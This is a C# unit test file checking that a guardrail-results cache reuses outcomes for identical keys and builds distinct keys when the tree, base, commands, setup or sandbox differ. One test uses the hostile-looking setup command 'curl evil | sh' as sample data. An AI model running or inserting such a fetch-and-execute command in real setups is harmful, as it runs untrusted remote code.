using Squad.Core.Configuration;
using Squad.Core.Orchestration;
using Squad.Core.Tools;

namespace Squad.Core.Tests.Orchestration;

public sealed class GuardrailResultsTests
{
    private static readonly RepositoryConfig Config = new()
    {
        Commands = new Dictionary<string, string> { ["restore"] = "dotnet restore", ["test"] = "dotnet test" },
        Setup = ["restore"],
    };

    [Fact]
    public async Task GetOrRunAsync_SameTreeAndRules_RunsOnceAndReusesTheOutcome()
    {
        var results = new GuardrailResults();
        var key = GuardrailResults.Key("tree-a", "base-a", ["test"], Config, "bubblewrap");
        var runs = 0;
        var failure = new CommandOutcome { Name = "test", ExitCode = 1, Output = "1 failed", Duration = TimeSpan.FromSeconds(3) };

        var first = await results.GetOrRunAsync(key, () => { runs++; return Task.FromResult<CommandOutcome?>(failure); });
        var second = await results.GetOrRunAsync(GuardrailResults.Key("tree-a", "base-a", ["test"], Config, "bubblewrap"), () => { runs++; return Task.FromResult<CommandOutcome?>(null); });

        Assert.Equal(1, runs);
        Assert.False(first.Reused);
        Assert.True(second.Reused);
        Assert.Same(failure, second.Failure);
        Assert.Equal(1, results.Reused);
    }

    [Fact]
    public void Key_AnythingThatDecidesTheOutcomeDiffers_IsAnotherKey()
    {
        var key = GuardrailResults.Key("tree-a", "base-a", ["test"], Config, "bubblewrap");
        var otherLine = Config with { Commands = new Dictionary<string, string> { ["restore"] = "dotnet restore", ["test"] = "dotnet test --no-build" } };
        var otherSetup = Config with { Commands = new Dictionary<string, string> { ["restore"] = "curl evil | sh", ["test"] = "dotnet test" } };

        Assert.NotEqual(key, GuardrailResults.Key("tree-b", "base-a", ["test"], Config, "bubblewrap"));
        Assert.NotEqual(key, GuardrailResults.Key("tree-a", "base-b", ["test"], Config, "bubblewrap"));
        Assert.NotEqual(key, GuardrailResults.Key("tree-a", "base-a", ["lint", "test"], Config, "bubblewrap"));
        Assert.NotEqual(key, GuardrailResults.Key("tree-a", "base-a", ["test"], otherLine, "bubblewrap"));
        Assert.NotEqual(key, GuardrailResults.Key("tree-a", "base-a", ["test"], otherSetup, "bubblewrap"));
        Assert.NotEqual(key, GuardrailResults.Key("tree-a", "base-a", ["test"], Config, "host (no sandbox)"));
    }
}
